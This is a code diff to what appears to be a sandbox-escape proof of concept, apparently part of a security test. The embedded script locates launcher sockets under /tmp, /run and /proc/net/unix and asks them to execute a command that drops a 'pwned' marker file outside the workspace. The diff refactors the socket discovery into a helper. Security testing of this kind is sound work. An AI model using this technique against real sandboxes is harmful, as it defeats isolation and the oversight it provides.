@@ -30,7 +30,7 @@ _HOST = {
 }
 
 _CODE = f"H = {_HOST!r}\n" + code("""
-    import glob, subprocess, time
+    import subprocess, time
     target = P["ws_parent"]
     argv = ["exec", "--workspace", target, "--", "touch", target + "/pwned-" + MARKER]
     fields = [H["build_id"], "22", "", str(len(argv))] + argv + ["PATH=/usr/bin:/bin"]
@@ -59,19 +59,7 @@ _CODE = f"H = {_HOST!r}\n" + code("""
         finally:
             s.close()
 
-    cands = set()
-    bases = ["/tmp", "/run", os.environ.get("XDG_RUNTIME_DIR") or "/tmp"]
-    bases += glob.glob("/run/user/*")
-    for base in bases:
-        cands.update(glob.glob(base + "/corral-*/launcher/*.sock"))
-    try:
-        with open("/proc/net/unix") as fh:
-            for line in fh:
-                f = line.split()
-                if len(f) >= 8 and "/launcher/" in f[-1]:
-                    cands.add(f[-1])
-    except OSError:
-        pass
+    cands = host_sockets(["/corral-*/launcher/*.sock"], ["/launcher/"])
     answered = [r for r in map(ask, sorted(cands)) if r]
     if not any(r.startswith(b"A") for r in answered) and os.access(H["python"], os.X_OK) \
             and os.path.isdir(H["src"]):
